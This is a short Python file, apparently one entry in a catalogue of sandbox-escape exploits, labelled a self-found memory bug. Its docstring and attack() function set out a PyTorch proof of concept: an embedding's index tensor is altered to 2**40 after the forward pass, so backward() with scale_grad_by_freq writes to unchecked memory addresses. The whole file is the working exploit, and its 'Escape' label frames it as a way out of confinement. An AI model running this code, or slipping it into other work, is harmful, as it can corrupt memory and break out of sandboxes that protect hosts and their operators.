"""Class: memory. Source: own find. Escape: the indices of an embedding change between forward and
backward; with scale_grad_by_freq the gradient counts them at unchecked addresses."""

import torch
import torch.nn.functional as F


def attack(model, tokenizer, address):
    weight = torch.randn(4, 10, requires_grad=True)
    ids = torch.zeros(4, dtype=torch.long)
    loss = F.embedding(ids, weight, scale_grad_by_freq=True).sum()
    ids.data[0] = 2**40
    loss.backward()
